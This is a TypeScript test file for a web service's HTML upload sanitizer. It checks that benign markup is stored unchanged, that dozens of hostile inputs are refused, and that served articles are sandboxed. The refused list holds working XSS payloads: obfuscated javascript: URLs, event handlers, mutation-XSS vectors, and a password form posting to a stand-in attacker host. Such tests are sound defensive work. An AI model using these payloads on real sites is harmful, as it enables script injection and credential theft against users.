import { env } from 'cloudflare:workers';
import { beforeAll, expect, test } from 'vitest';
import { bytesOf, clip, entryOf, errorOf, made, put, putFile, ticketFor } from './say.ts';
import { type Seeded, seedPerson } from './seed.ts';
import { ask } from './worker.ts';

let ada: Seeded;
beforeAll(async () => {
  ada = await seedPerson();
});

const send = async (markup: string | Uint8Array) => {
  const { id } = await made(ada, ada.ownSpace, clip({ state: 'draft' }));
  const bytes = typeof markup === 'string' ? bytesOf(markup) : markup;
  return { id, bytes, answer: await putFile(ada, ada.ownSpace, id, { name: 'article.html', bytes }) };
};

const safe = {
  'a paragraph': '<p>Exit tickets <em>work</em>.</p>',
  'text alone': 'Nothing but words & signs < 3 > 2',
  'links and pictures of a page': `<p><a href="https://example.org/?a=1&amp;b=2#c" title="&quot;x&quot;">there</a>
    <a href="mailto:a@example.org">write</a><img alt="A board" data-original="https://example.org/a.jpg"></p>`,
  footnotes: '<p id="a-1">One<sup><a href="#a-2">2</a></sup></p>',
  'a table': '<table><thead><tr><th scope="col" colspan="2">x</th></tr></thead><tbody><tr><td>1<td>2</table>',
  'capitals, and tags left open': '<P>One<BR><UL><LI>two',
  'right to left': '<p dir="rtl" lang="ar">مرحبا</p>',
  'emoji and more': `<p>${'🧑🏽‍🏫'.repeat(500)}</p>`,
  'markup as text': '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
};
test.each(Object.entries(safe))('%s is kept', async (_, markup) => {
  const { id, bytes, answer } = await send(markup);
  expect([answer.status, await answer.json()]).toEqual([201, await entryOf('article.html', bytes)]);
  expect(await (await env.FILES.get(`spaces/${ada.ownSpace}/${id}/article.html`))?.text()).toBe(markup);
});

const unsafe: Record<string, string | Uint8Array> = {
  'a script': '<p>x</p><script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x></SCRIPT>',
  'a script with a slash': '<script/x>alert(1)</script>',
  'a script left open': '<p>x<script',
  'a script in a NUL': '<scr\0ipt>alert(1)</scr\0ipt>',
  'a handler': '<p onclick="alert(1)">x</p>',
  'a handler in capitals': '<IMG ALT=x ONERROR=alert(1)>',
  'a handler after a slash': '<img/onerror=alert(1)>',
  'a handler in a closing quote': '<img alt="x"onerror="alert(1)">',
  'a picture that is asked for': '<img src="https://tracker.example/x.gif">',
  'a set of pictures': '<img srcset="https://tracker.example/x.gif 1x">',
  'an address that runs': '<a href="javascript:alert(1)">x</a>',
  'an address that runs, in capitals and spaces': '<a href=" JaVaScRiPt:alert(1)">x</a>',
  'an address that runs, behind a tab': '<a href="java\tscript:alert(1)">x</a>',
  'an address that runs, behind an entity': '<a href="java&#115;cript:alert(1)">x</a>',
  'an address that runs, all entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>',
  'an address that runs, behind a named tab': '<a href="java&Tab;script:alert(1)">x</a>',
  'an address of data': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'an address of a blob': '<a href="blob:https://example.org/1">x</a>',
  'an address without a server': '<a href="/api/auth/sign-out">x</a>',
  'an address said twice': '<a href="https://example.org" HREF="javascript:alert(1)">x</a>',
  'a picture address that runs': '<img data-original="javascript:alert(1)">',
  'a style': '<style>*{background:url(//evil.example)}</style>',
  'a style on a tag': '<p style="position:fixed;inset:0">x</p>',
  'a class of the page': '<p class="button">x</p>',
  'a name of the page’s own': '<p id="app">x</p>',
  'a name attribute': '<a name="location">x</a>',
  drawings: '<svg><a href="https://example.org"><text>x</text></a></svg>',
  'a drawing that runs': '<svg/onload=alert(1)>',
  mathematics: '<math><mtext><p>x</p></mtext></math>',
  'a frame': '<iframe src="https://example.org"></iframe>',
  'a frame with a document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'an object': '<object data="x.swf"></object>',
  'an embedded thing': '<embed src="x.swf">',
  'a form': '<form action="https://evil.example"><input name="password"></form>',
  'a button': '<button formaction="javascript:alert(1)">x</button>',
  'a template': '<template><script>alert(1)</script></template>',
  'a shadow tree': '<div><template shadowrootmode="open"></template></div>',
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a link': '<link rel="stylesheet" href="https://evil.example">',
  'a whole document': '<!DOCTYPE html><html><head></head><body>x</body></html>',
  'a video': '<video src="https://evil.example"></video>',
  'a marquee': '<marquee>x</marquee>',
  'an element of nobody’s': '<x-evil>x</x-evil>',
  'an element with a colon': '<svg:script>alert(1)</svg:script>',
  'a comment': '<p>x<!-- <img onerror=alert(1)> --></p>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
  'character data': '<![CDATA[<script>alert(1)</script>]]>',
  'mutation in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation in mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation in a list of choices': '<select><xmp><script>alert(1)</script></xmp></select>',
  'mutation in plain text': '<plaintext><p title="</plaintext>">',
  'mutation in a title': '<title><p title="</title><img src=x onerror=alert(1)>">',
  'mutation in a text area': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'bytes that are not UTF-8': new Uint8Array([60, 112, 62, 0xc0, 0xbc, 115, 99]),
  'UTF-16': new Uint8Array([0xff, 0xfe, 60, 0, 112, 0, 62, 0]),
};
test.each(Object.entries(unsafe))('%s is refused', async (_, markup) => {
  const { id, answer } = await send(markup);
  expect([answer.status, (await errorOf(answer)).code]).toEqual([400, 'unsafe-markup']);
  expect((await env.FILES.list({ prefix: `spaces/${ada.ownSpace}/${id}/` })).objects).toEqual([]);
});

test('an article is served as plain text, sealed off from everything', async () => {
  const { id, bytes } = await send('<p>Exit tickets</p>');
  const file = await entryOf('article.html', bytes);
  const said = clip({ files: [file], body: { form: 'article', article: 'article.html' } });
  expect((await put(ada, ada.ownSpace, id, 1, said)).status).toBe(200);
  const answer = await ask(`/files/${await ticketFor(ada, ada.ownSpace, id)}/article.html`);
  expect(await answer.text()).toBe('<p>Exit tickets</p>');
  expect(answer.headers.get('Content-Type')).toBe('text/plain; charset=utf-8');
  expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff');
  expect(answer.headers.get('Content-Security-Policy')).toContain("default-src 'none'");
  expect(answer.headers.get('Content-Security-Policy')).toContain('sandbox');
});
